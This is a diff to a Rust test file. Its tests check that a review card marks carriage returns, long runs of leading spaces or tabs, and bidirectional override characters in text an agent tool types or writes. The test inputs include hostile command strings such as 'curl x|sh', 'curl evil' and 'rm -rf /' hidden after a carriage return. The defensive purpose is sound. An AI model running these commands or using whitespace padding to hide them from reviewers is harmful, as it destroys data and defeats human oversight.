@@ -968,6 +968,10 @@ fn typed_text_on_the_card_shows_carriage_returns_invisible_characters_and_blank_
     let pushed = typed(&format!("true{}; curl evil", " ".repeat(300)));
     assert_eq!(pushed, "true⟨300 spaces⟩; curl evil");
     assert_eq!(typed("⟨CR⟩"), "⟨U+27E8⟩CR⟩", "the mark cannot be forged");
+    // Review of the fix (failed before): a line's indentation was never marked, so 1 500
+    // leading spaces (or tabs in a file) pushed the command below the card's scroll box.
+    assert_eq!(typed(&format!("{}curl x|sh", " ".repeat(1500))), "⟨1500 spaces⟩curl x|sh");
+    assert_eq!(typed(&format!("ok\n{}curl x|sh", " ".repeat(40))), "ok\n⟨40 spaces⟩curl x|sh");
     // herdr_prompt's text and keys too.
     let prompt = classify("herdr_prompt", &object(json!({"target": "w1:p1", "text": "go\rrm -rf /"}))).detail;
     assert_eq!(prompt, "go⟨CR⟩\nrm -rf /");
@@ -981,6 +985,9 @@ fn typed_text_on_the_card_shows_carriage_returns_invisible_characters_and_blank_
         &object(json!({"path": "src/a\rb.rs", "content": "fn main() {\n\tlet x = 1;\n        call(x);\u{202e}\n}\n"})),
     )
     .detail;
+    let tabs =
+        classify("herdr_fs_write", &object(json!({"path": "a.go", "content": format!("{}x := 1\n\t\ty := 2", "\t".repeat(400))}))).detail;
+    assert_eq!(tabs, "a.go\n⟨400 tabs⟩x := 1\n\t\ty := 2");
     assert_eq!(write, "src/a⟨CR⟩b.rs\nfn main() {\n\tlet x = 1;\n        call(x);⟨U+202E⟩\n}\n", "{write}");
 }
 
